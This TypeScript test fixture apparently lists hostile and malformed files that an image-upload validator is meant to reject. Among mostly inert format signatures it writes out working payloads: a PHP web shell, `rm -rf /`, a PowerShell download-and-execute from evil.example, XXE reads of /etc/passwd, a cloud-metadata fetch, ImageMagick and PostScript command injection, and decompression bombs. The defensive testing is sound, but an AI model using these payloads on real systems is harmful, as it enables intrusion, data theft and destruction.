import { deflateRawSync, gzipSync } from 'node:zlib'
import sharp from 'sharp'
import { archive, bytesOf, eicar, joined, payload } from '#functions/testing/hostile-files.ts'
import { drawScene } from '#functions/testing/uploads.ts'
import type { HostileFile } from '#functions/trust/files/hostile-file.ts'

const text = (name: string, content: string): HostileFile => ({ name, make: () => bytesOf(content) })

const made = (name: string, make: () => Promise<Buffer>): HostileFile => ({
  name,
  make: async () => new Uint8Array(await make()),
})

const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="90" height="90">${inside}</svg>`
const page = `<!doctype html><html><body>${payload}</body></html>`
const zeros = (count: number): string => '\0'.repeat(count)

/** Text that a browser or another program would execute or follow. */
const active: readonly HostileFile[] = [
  text('SVG', svg('<rect width="9" height="9"/>')),
  text('SVG with a script', svg(payload)),
  text('SVG that loads another', svg('<image href="http://169.254.169.254/latest/meta-data"/>')),
  text('SVG behind an XML declaration', `<?xml version="1.0"?>\n${svg(payload)}`),
  text(
    'SVG with entities that grow',
    `<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>${svg('&b;')}`,
  ),
  text(
    'SVG that reads a file',
    `<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text>&x;</text>')}`,
  ),
  text('SVG behind a mark of UTF-8', `\xef\xbb\xbf${svg(payload)}`),
  { name: 'compressed SVG', make: () => new Uint8Array(gzipSync(svg(payload))) },
  { name: 'SVG in UTF-16', make: () => new Uint8Array(Buffer.from(`\ufeff${svg(payload)}`, 'utf16le')) },
  text('a page', page),
  text('a page behind spaces', `   \r\n\t${page}`),
  text('a page behind the end of a JPEG', `\xff\xd9${page}`),
  { name: 'a page in UTF-16', make: () => new Uint8Array(Buffer.from(`\ufeff${page}`, 'utf16le')) },
  text('a page in UTF-7', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  text('XHTML', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${payload}</html>`),
  text('MHTML', `MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n${page}`),
  text('JavaScript', 'alert(document.domain)//'),
  text('PHP', '<?php system($_GET["c"]); ?>'),
  text('a shell script', '#!/bin/sh\nrm -rf /\n'),
  text('a batch file', '@echo off\r\ndel /q *.*\r\n'),
  text('PowerShell', 'IEX (New-Object Net.WebClient).DownloadString("http://evil.example")'),
  text('a Windows shortcut', `L\0\0\0\x01\x14\x02\0${zeros(68)}`),
  text('an internet shortcut', '[InternetShortcut]\r\nURL=file://evil.example/x\r\n'),
  text(
    'MVG',
    'push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 \'url(https://127.0.0.1/x"|ls "-la)\'\npop graphic-context',
  ),
  text('MSL', '<?xml version="1.0"?><image><read filename="/etc/passwd"/><write filename="/tmp/x"/></image>'),
  text('a text that names a file for ImageMagick', 'text:/etc/passwd'),
  text('PostScript', '%!PS-Adobe-3.0\n(%pipe%id) (w) file'),
  text('EPS', '%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\nshowpage'),
  text('EPS with a preview', `\xc5\xd0\xd3\xc6\x1e\0\0\0${zeros(40)}`),
  text('RTF', '{\\rtf1{\\object\\objautlink}}'),
  text('EICAR', eicar),
  text('EICAR behind spaces', `   ${eicar}`),
]

/** Pictures in formats that are not accepted, either real ones or by their signature. */
const pictures: readonly HostileFile[] = [
  made('GIF', () => drawScene(1, 40, 30).gif().toBuffer()),
  text('GIF that is a script too', 'GIF89a/*\0\0*/=1;alert(1)'),
  text('GIF of 1987 with a page', `GIF87a\x01\0\x01\0\0\0\0${page}`),
  text(
    'GIF of 65,535 × 65,535',
    `GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;`,
  ),
  made('TIFF', () => drawScene(2, 40, 30).tiff().toBuffer()),
  made('TIFF, compressed', () =>
    drawScene(2, 40, 30).tiff({ compression: 'deflate', bigtiff: true }).toBuffer(),
  ),
  text('TIFF whose directory leads to itself', `II*\0\x08\0\0\0\0\0\x08\0\0\0${zeros(8)}`),
  text('TIFF, big-endian', `MM\0*\0\0\0\x08${zeros(20)}`),
  made('AVIF', () => drawScene(3, 40, 30).avif({ effort: 0 }).toBuffer()),
  text('HEIC', `\0\0\0\x18ftypheic\0\0\0\0mif1heic${zeros(40)}`),
  text('JPEG 2000', `\0\0\0\x0cjP  \r\n\x87\n${zeros(40)}`),
  text('JPEG 2000, its stream alone', `\xff\x4f\xff\x51${zeros(40)}`),
  text('JPEG XL', `\0\0\0\x0cJXL \r\n\x87\n${zeros(40)}`),
  text('JPEG XL, its stream alone', `\xff\x0a${zeros(40)}`),
  text('JPEG XR', `II\xbc\x01\x08\0\0\0${zeros(40)}`),
  text('BMP', `BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x02\0\0\0\x02\0\0\0\x01\0\x18\0${zeros(40)}`),
  text(
    'BMP of 2,147,483,647 pixels in a row',
    `BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\xff\xff\xff\x7f\x01\0\0\0\x01\0\x18\0${zeros(40)}`,
  ),
  text('ICO', `\0\0\x01\0\x01\0\x10\x10\0\0\x01\0\x20\0${zeros(40)}`),
  text('CUR', `\0\0\x02\0\x01\0\x10\x10\0\0\x01\0\x20\0${zeros(40)}`),
  text('PSD', `8BPS\0\x01${zeros(6)}\0\x03\0\0\x75\x30\0\0\x75\x30\0\x08\0\x03${zeros(20)}`),
  text('PSB', `8BPS\0\x02${zeros(6)}\0\x03${zeros(30)}`),
  text('XCF', `gimp xcf v011\0${zeros(20)}`),
  text('PCX', `\x0a\x05\x01\x08${zeros(124)}`),
  text('TGA', `${zeros(2)}\x02${zeros(9)}\xff\xff\xff\xff\x18\0`),
  text('PPM', `P6\n2 2\n255\n${zeros(12)}`),
  text('PPM of 50,000 × 50,000', 'P6\n50000 50000\n255\n'),
  text('PAM', `P7\nWIDTH 2\nHEIGHT 2\nDEPTH 3\nMAXVAL 255\nENDHDR\n${zeros(12)}`),
  text('XPM', '/* XPM */\nstatic char *x[] = {"1 1 1 1","a c #000000","a"};'),
  text('XBM', '#define x_width 8\n#define x_height 1\nstatic char x_bits[] = {0xff};'),
  text('WMF', `\xd7\xcd\xc6\x9a${zeros(30)}`),
  text('EMF', `\x01\0\0\0${zeros(36)} EMF${zeros(30)}`),
  text('FITS', 'SIMPLE  =                    T'.padEnd(2880)),
  text('Radiance', '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\n\0\0\0\0'),
  text('OpenEXR', `v/1\x01\x02\0\0\0${zeros(20)}`),
  text('DDS', `DDS |\0\0\0${zeros(120)}`),
  text('DICOM', `${zeros(128)}DICM${zeros(20)}`),
  text('DjVu', `AT&TFORM\0\0\0\x20DJVU${zeros(20)}`),
  text('MNG', `\x8aMNG\r\n\x1a\n${zeros(30)}`),
  text('JNG', `\x8bJNG\r\n\x1a\n${zeros(30)}`),
  text('an image of vips', `\xb6\xa6\xf2\x08${zeros(60)}`),
  text('MATLAB', `MATLAB 5.0 MAT-file${zeros(120)}`),
]

/** Containers and executables. */
const containers: readonly HostileFile[] = [
  text('an archive', `PK\x03\x04\x14\0\0\0\x08\0${zeros(20)}x.html`),
  {
    name: 'an archive with its directory',
    make: () => joined(bytesOf('PK\x03\x04'), deflateRawSync(payload), archive),
  },
  text('an empty archive', `PK\x05\x06${zeros(18)}`),
  text('a Word file', `PK\x03\x04\x14\0\x06\0${zeros(18)}[Content_Types].xml${zeros(20)}`),
  text('an Office file of 2003', `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${zeros(500)}`),
  text('RAR', `Rar!\x1a\x07\x01\0${zeros(20)}`),
  text('7z', `7z\xbc\xaf\x27\x1c\0\x04${zeros(20)}`),
  text('xz', `\xfd7zXZ\0\0\x04${zeros(20)}`),
  text('bzip2', `BZh91AY&SY${zeros(20)}`),
  { name: 'gzip that grows to 50 MB', make: () => new Uint8Array(gzipSync(Buffer.alloc(50_000_000))) },
  text('tar', `x${zeros(256)}ustar  ${zeros(200)}`),
  text('a program for Windows', `MZ\x90\0${zeros(56)}\x40\0\0\0PE\0\0${zeros(40)}`),
  text('a program for Linux', `\x7fELF\x02\x01\x01${zeros(57)}`),
  text('a program for a Mac', `\xcf\xfa\xed\xfe${zeros(28)}`),
  text('a Java class', `\xca\xfe\xba\xbe\0\0\0\x34${zeros(20)}`),
  text('WebAssembly', `\0asm\x01\0\0\0${zeros(8)}`),
  text('Flash', `FWS\x09${zeros(20)}`),
  text('MP4', `\0\0\0\x18ftypmp42${zeros(40)}`),
  text('WebM', `\x1a\x45\xdf\xa3${zeros(40)}`),
  text('a RIFF that is sound', `RIFF\x24\0\0\0WAVEfmt ${zeros(20)}`),
  text('a RIFF that is a film', `RIFF\x24\0\0\0AVI LIST${zeros(20)}`),
  text('a cursor in a RIFF', `RIFF\x24\0\0\0ACONanih${zeros(20)}`),
  text('SQLite', `SQLite format 3\0${zeros(84)}`),
]

/** Files that are almost valid, or empty. */
const nearly: readonly HostileFile[] = [
  text('one zero byte', '\0'),
  text('a space', ' '),
  text('a thousand zero bytes', zeros(1000)),
  text('two bytes of a JPEG', '\xff\xd8'),
  text('three bytes of a JPEG', '\xff\xd8\xff'),
  text('a JPEG that begins and ends', '\xff\xd8\xff\xd9'),
  text('a JPEG of comments', `\xff\xd8${`\xff\xfe\0\x10${'x'.repeat(14)}`.repeat(2000)}\xff\xd9`),
  text('a JPEG of a header that is a script', '\xff\xd8\xff\xe0/*JFIF*/=1;alert(1)'),
  text('the name of PNG alone', '\x89PNG\r\n\x1a\n'),
  text('a PNG that passed through a text mode', `\x89PNG\n\x1a\n${zeros(30)}`),
  text('a PNG whose first chunk is a terabyte', `\x89PNG\r\n\x1a\n\xff\xff\xff\xffIHDR${zeros(20)}`),
  text('a WebP that says it has 4 GB', `RIFF\xff\xff\xff\xffWEBPVP8 \xff\xff\xff\xff${zeros(20)}`),
  text('a WebP of nothing', 'RIFF\x04\0\0\0WEBP'),
  made('a JPEG behind a space', async () =>
    Buffer.concat([Buffer.from(' '), await drawScene(4, 40, 30).jpeg().toBuffer()]),
  ),
  made('a PNG behind a mark of UTF-8', async () =>
    Buffer.concat([Buffer.from('\ufeff'), await drawScene(4, 40, 30).png().toBuffer()]),
  ),
  made('a JPEG turned round', async () =>
    Buffer.from([...(await drawScene(4, 40, 30).jpeg().toBuffer())].toReversed()),
  ),
  made('raw pixels', () =>
    sharp({ create: { width: 9, height: 9, channels: 3, background: '#fff' } })
      .raw()
      .toBuffer(),
  ),
]

/** Files that are neither a photo nor a document nor a stock file, whatever their announced type. */
export const otherKinds: readonly HostileFile[] = [...active, ...pictures, ...containers, ...nearly]
